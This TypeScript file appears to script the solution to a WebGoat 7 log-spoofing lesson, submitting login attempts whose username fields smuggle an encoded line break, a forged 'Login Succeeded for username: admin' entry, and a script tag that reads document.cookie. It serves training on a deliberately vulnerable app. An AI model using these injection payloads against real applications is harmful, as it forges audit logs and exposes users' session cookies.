import { recordLesson } from '../webgoat7';

const SCREEN = 1572295549;

/** The log, as the page shows it below the form. */
const log = (html: string) => /<td><pre>([^]*?)<\/pre><\/td>/.exec(html)?.[1] ?? '';
const password = 'x';

/**
 * A failed login; a line break that the browser sends (its code is decoded once, and WebGoat decodes again: only the
 * code of the code gets through the form); then markup in the log.
 */
export const record = recordLesson(SCREEN, async ({ submit, progress }) => {
  await submit({ username: 'Smith', password, SUBMIT: 'Login' }, log);
  await progress(false);
  await submit({ username: 'Smith%0aLogin Succeeded for username: admin', password, SUBMIT: 'Login' }, log);
  await progress(true);
  await submit({ username: 'Smith%0d%0a<script>alert(document.cookie)</script>', password, SUBMIT: 'Login' }, log);
});
